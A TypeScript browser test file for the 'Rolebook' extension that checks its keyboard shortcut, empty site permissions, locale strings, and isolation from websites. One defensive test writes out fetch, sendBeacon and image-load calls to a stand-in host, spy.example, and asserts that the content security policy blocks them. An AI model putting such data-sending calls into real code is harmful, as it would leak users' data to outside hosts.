// What the browser itself made of the manifest: the shortcut it assigned, the rights it gave, and the doors that stay shut.
// built-manifest.test.ts reads what was asked for; here the running browsers are asked.

import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BROWSERS } from './browsers.ts';
import { Journey } from './journey.ts';
import type { Person } from './person.ts';
import { runIn, type TestBrowser } from './screen.ts';

/** The extension's own API, by its name in each browser. */
const API = "(typeof browser === 'object' ? browser : chrome)";

describe.each(BROWSERS)('in $name', ({ start }) => {
  let journey: Journey<TestBrowser>;
  let catalogue: Person;

  beforeAll(async () => {
    journey = await Journey.begin(start);
    catalogue = await journey.openCatalogue();
  });
  afterAll(() => journey.end());

  test('the keyboard command has its keys', async () => {
    const commands = await catalogue.screen.evaluate(`${API}.commands.getAll()`);
    expect(commands).toContainEqual(expect.objectContaining({ name: 'clip-page', shortcut: 'Alt+Shift+K' }));
  });

  test('no site is open to the extension', async () => {
    const given = await catalogue.screen.evaluate(`${API}.permissions.getAll()`);
    expect(given).toMatchObject({ origins: [] });
  });

  test('the words of the browser come from the locale', async () => {
    const words = await catalogue.screen.evaluate(`${API}.i18n.getMessage('addSelectionMenu')`);
    expect(words).toBe('Add selection to Rolebook');
  });

  test('a page of the extension cannot send anything away', async () => {
    const before = journey.site.requests.length;
    await runIn(
      catalogue.screen,
      async () => {
        const refused = (directive: string): Promise<void> =>
          new Promise((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) => {
              if (event.effectiveDirective === directive) resolve();
            });
          });
        const all = Promise.all([refused('connect-src'), refused('img-src')]);
        void fetch('http://spy.example/fetch').catch(() => null);
        navigator.sendBeacon('http://spy.example/beacon', 'text');
        new Image().src = 'http://spy.example/picture';
        await all;
      },
      null,
    );
    expect(journey.site.requests.slice(before)).toEqual([]);
  });

  test('a site can neither see nor load the files of the extension', async () => {
    const page = await journey.visit('stub');
    const outcome = await runIn(
      page.screen,
      async (url) => {
        const fetched = await fetch(url).then(
          () => 'fetched',
          () => 'refused',
        );
        const picture = new Image();
        picture.src = url;
        const shown = await picture.decode().then(
          () => 'shown',
          () => 'refused',
        );
        return [fetched, shown];
      },
      `${journey.browser.origin}/icon/128.png`,
    );
    expect(outcome).toEqual(['refused', 'refused']);
    await page.screen.close();
  });
});
